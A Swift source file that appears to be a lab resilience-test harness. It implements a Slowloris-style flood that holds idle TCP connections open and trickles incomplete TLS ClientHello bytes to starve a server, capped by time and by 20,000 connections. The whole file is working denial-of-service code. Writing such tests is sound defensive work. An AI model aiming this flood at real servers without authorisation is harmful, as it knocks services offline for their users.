import Foundation

#if canImport(Glibc)
  import Glibc
#endif

/// A stranger on the LAN starving a node, for the lab's strangers test: idle TCP
/// connections that never speak TLS, and slow TLS handshakes that trickle a ClientHello
/// (a 16 KiB record that never completes) one byte every 200 ms; whatever the server
/// closes is opened again, until the time is up (or 20,000 connections were opened).
struct Flood {
  let host: String
  let port: UInt16

  /// One connection the flood keeps.
  struct Link {
    var fd: Int32
    let slow: Bool
    var sent = 0
  }

  /// Connections opened in one run at most (bounded in count as well as time).
  static let maximumOpened = 20_000

  /// The start of a TLS handshake record of 16 KiB, then filler: the server waits for the rest.
  static let helloStart: [UInt8] = [0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3F, 0xFC, 0x03, 0x03]

  func run(idle: Int, slow: Int, seconds: Double) -> [String: Any] {
    let deadline = Date().addingTimeInterval(seconds)
    var opened = 0
    var closedByServer = 0
    var failedConnects = 0
    var links: [Link] = []
    func open(slow: Bool) -> Link? {
      guard Date() < deadline, opened < Self.maximumOpened else { return nil }
      guard let fd = dial() else {
        failedConnects += 1
        return nil
      }
      opened += 1
      return Link(fd: fd, slow: slow)
    }
    for index in 0..<(idle + slow) {
      if let link = open(slow: index >= idle) { links.append(link) }
    }
    var lastTrickle = Date()
    while Date() < deadline {
      var descriptors = links.map { pollfd(fd: $0.fd, events: Int16(POLLIN), revents: 0) }
      _ = poll(&descriptors, nfds_t(descriptors.count), 50)
      let trickle = Date().timeIntervalSince(lastTrickle) >= 0.2
      if trickle { lastTrickle = Date() }
      for index in links.indices {
        var closed = descriptors[index].revents & Int16(POLLIN | POLLHUP | POLLERR) != 0
        if closed {
          var byte: UInt8 = 0
          closed = recv(links[index].fd, &byte, 1, Int32(MSG_DONTWAIT)) <= 0
        }
        if !closed, trickle, links[index].slow {
          var byte = links[index].sent < Self.helloStart.count ? Self.helloStart[links[index].sent] : 0x41
          closed = send(links[index].fd, &byte, 1, Int32(MSG_NOSIGNAL | MSG_DONTWAIT)) < 0 && errno != EAGAIN
          links[index].sent += 1
        }
        guard closed else { continue }
        closedByServer += 1
        close(links[index].fd)
        links[index].fd = -1
        if let fresh = open(slow: links[index].slow) { links[index] = fresh }
      }
      links.removeAll { $0.fd < 0 }
      if links.isEmpty, Date() < deadline, opened < Self.maximumOpened {
        // The server refuses everything: wait a little before the next round of connects.
        Thread.sleep(forTimeInterval: 0.1)
        for index in 0..<(idle + slow) {
          if let link = open(slow: index >= idle) { links.append(link) }
        }
      }
    }
    for link in links { close(link.fd) }
    return ["opened": opened, "closed_by_server": closedByServer, "failed_connects": failedConnects]
  }

  /// A TCP connection to the server within a second, or nil.
  func dial() -> Int32? {
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_port = port.bigEndian
    guard inet_pton(AF_INET, host, &address.sin_addr) == 1 else { return nil }
    let fd = socket(
      AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue) | Int32(SOCK_NONBLOCK.rawValue), 0)
    guard fd >= 0 else { return nil }
    let started = withUnsafePointer(to: &address) {
      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
      }
    }
    if started != 0 && errno != EINPROGRESS {
      close(fd)
      return nil
    }
    var descriptor = pollfd(fd: fd, events: Int16(POLLOUT), revents: 0)
    var failure: Int32 = 0
    var length = socklen_t(MemoryLayout<Int32>.size)
    guard poll(&descriptor, 1, 1000) == 1, getsockopt(fd, SOL_SOCKET, SO_ERROR, &failure, &length) == 0, failure == 0
    else {
      close(fd)
      return nil
    }
    return fd
  }
}
